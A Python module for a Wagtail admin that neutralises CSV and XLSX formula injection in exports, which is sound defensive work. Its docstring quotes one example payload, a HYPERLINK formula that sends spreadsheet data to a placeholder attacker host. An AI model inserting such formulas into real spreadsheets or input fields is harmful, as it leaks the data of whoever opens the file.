"""Spreadsheets that open safely: text that starts like a formula is written as text.

Spreadsheet programs read a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and
some skip a leading tab or carriage return before looking (OWASP, "CSV injection"). Names and
messages come from citizens, so an applicant named ``=HYPERLINK("http://evil.example/?x="&A1,…)``
must reach the officer who opens the register as that text, not as a live link that sends the
sheet away. In CSV such text gets a leading apostrophe, which spreadsheet programs hide and read
as "this is text"; in XLSX it is a string cell marked with Excel's quote prefix. Numbers are
never touched: -5 stays the number -5.
"""

from typing import Any

from openpyxl.cell.cell import Cell
from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_text(value: Any) -> Any:
    """The value for a CSV cell: text that looks like a formula behind an apostrophe, the rest as it is."""
    return "'" + value if looks_like_formula(value) else value


def xlsx_text(cell: Cell) -> Cell:
    """Keep `cell` a string cell when its text looks like a formula (openpyxl makes "=…" a formula)."""
    if looks_like_formula(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


class FormulaSafeExportMixin(SpreadsheetExportMixin):
    """For the admin's listing views: their CSV and XLSX exports write formula-like text as text.

    Wagtail's XLSX export already turns "=…" into a string cell; its CSV export writes text as it is.
    """

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        return csv_text(value) if export_format == self.FORMAT_CSV else value

    def generate_xlsx_row(self, worksheet, row_dict, date_format=None):
        for cell in super().generate_xlsx_row(worksheet, row_dict, date_format=date_format):
            yield xlsx_text(cell)
